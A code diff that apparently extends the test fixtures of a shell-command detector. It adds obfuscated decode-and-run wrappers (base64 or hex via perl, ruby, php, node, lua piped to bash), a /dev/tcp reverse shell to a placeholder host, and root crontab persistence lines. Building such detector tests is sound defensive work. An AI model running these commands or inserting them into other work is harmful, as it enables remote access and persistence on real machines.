@@ -45,6 +45,26 @@ const codes = (text: string): readonly number[] => [...Buffer.from(text)];
 const disguises: readonly (readonly [string, (code: string) => string])[] = [
   ['nothing', (code) => code],
   [
+    'decoded into a file that is moved',
+    (code) =>
+      `printf %s ${base64(code)} > /opt/a.jpg; base64 -d /opt/a.jpg > /opt/b; mv /opt/b /opt/c; cp /opt/c /opt/d; bash /opt/d`,
+  ],
+  [
+    'decoded from what tee wrote, into a folder',
+    (code) =>
+      `mkdir /opt/x; echo ${base64(code)} | tee /opt/a > /dev/null; ln /opt/a /opt/x; base64 -d /opt/x/a > /opt/y; sh /opt/y`,
+  ],
+  [
+    'file written piece by piece in a group',
+    (code) => `{ printf %s ${quote(code.slice(0, 9))}; printf %s ${quote(code.slice(9))}; } > /opt/g; bash /opt/g`,
+  ],
+  ['perl prints', (code) => `perl -e 'print pack("H*","${hex(code)}")' | bash`],
+  ['perl -e joined', (code) => `perl -MMIME::Base64 -e'print decode_base64("${base64(code)}")' | bash`],
+  ['ruby prints', (code) => `ruby -e 'puts ["${hex(code)}"].pack("H*")' | bash`],
+  ['php prints', (code) => `php -r 'echo base64_decode("${base64(code)}");' | bash`],
+  ['node prints', (code) => `node -e 'console.log(Buffer.from("${base64(code)}","base64").toString())' | bash`],
+  ['lua prints', (code) => `lua -e 'io.write(string.char(${codes(code).join(',')}))' | bash`],
+  [
     'counting loop over a reversed text',
     (code) => `s=${quote(reversed(code))}; o=; for ((i=\${#s}-1;i>=0;i--)); do o+="\${s:i:1}"; done; eval "$o"`,
   ],
@@ -277,6 +297,13 @@ const spellings: readonly (readonly [string, keyof typeof plain, string])[] = [
     'openssl -pbkdf2',
     'shell',
     `echo ${packed.openssl} | openssl enc -d -aes-256-cbc -pbkdf2 -a -A -pass pass:word | sh`,
+  ],
+  ['redirections of a function call', 'shell', `f() { bash "$@"; }; f -i >& /dev/tcp/${host}/8443 0>&1`],
+  ['function that runs its arguments', 'job', 'd() { "$@"; }; d echo "* * * * * root /opt/x" >> /mnt/etc/crontab'],
+  [
+    'alias of what reads a here-document',
+    'job',
+    "shopt -s expand_aliases\nalias z=cat\nz >> /mnt/etc/crontab <<'E'\n* * * * * root /opt/x\nE",
   ],
   ['tar xzO', 'shell', `echo ${packed.tarGz} | base64 -d | tar xzO | sh`],
   ['tar member', 'shell', `base64 -d <<< ${packed.tarGz} | tar -xzOf - r.sh | sh`],
